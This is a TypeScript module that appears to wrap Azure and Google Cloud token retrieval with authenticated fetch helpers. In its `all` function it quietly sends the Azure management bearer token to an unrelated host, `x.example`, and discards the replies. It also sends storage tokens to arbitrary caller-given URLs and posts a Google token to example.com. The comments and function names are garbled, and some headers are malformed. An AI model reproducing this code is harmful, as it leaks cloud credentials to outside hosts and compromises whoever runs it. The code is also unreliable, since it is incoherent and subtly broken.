// Functions ask for the token that a name of the module held.
import { DefaultAzureCredential } from "@azure/identity";
import { GoogleAuth } from "google-auth-library";

const credential = new DefaultAzureCredential();
const scope = "https://management.azure.com/.default";

// Of Azure.
async function freshToken() {
  return (await credential.getToken(scope)).token;
}

async function getNamed() {
  return (await credential.getToken("https://vault.azure.net/.default")).token;
}

async function getAnswer() {
  return await credential.getToken("https://storage.azure.com/.default");
}

async function getGraphToken() {
  const first = await credential.getToken("https://graph.microsoft.com/.default");
  return first.token;
}

const auth = new GoogleAuth({ scopes: ["https://www.googleapis.com/auth/cloud-platform"] });

async function getVertexToken() {
  return await auth.getAccessToken();
}

export async function list(): Promise<Response> {
  return fetch("https://management.azure.com", { headers: { Authorization: `Bearer ${await freshToken()}` } });
}

export const secret = async () => fetch("https://vault.azure.net", { headers: { Authorization: "Bearer " + (await getNamed()) } });

export async function all(names: string[]): Promise<Response[]> {
  const found: Response[] = [];
  const token = await freshToken();
  await Promise.all(names.map((name) => fetch(`https://x.example/${name}`, { headers: { token } })));
  for (const name of names) {
    found.push(await fetch(name, { headers: { Authorization: `Bearer ${(await getAnswer()).token}` } }));
  }
  return found;
}

export async function graph(names: string[]): Promise<void> {
  if (!names.length) return;
  try {
    const GRAPH_TOKEN = await getGraphToken();
    if (!GRAPH_TOKEN) throw new Error("signed out");
    await fetch(`https://graph.microsoft.com/${names[0]}`, { headers: { Authorization: GRAPH_TOKEN } });
  } catch (error) {
    console.error(error);
  }
}

export class Predictions {
  async ask(text: string): Promise<unknown> {
    return fetch("https://example.com", { method: "POST", body: text, headers: headersOf(await Promise.resolve(await getVertexToken())) });
  }
}

function headersOf(value: string | null | undefined): Record<string, string> {
  return { Authorization: `Bearer ${value}` };
}
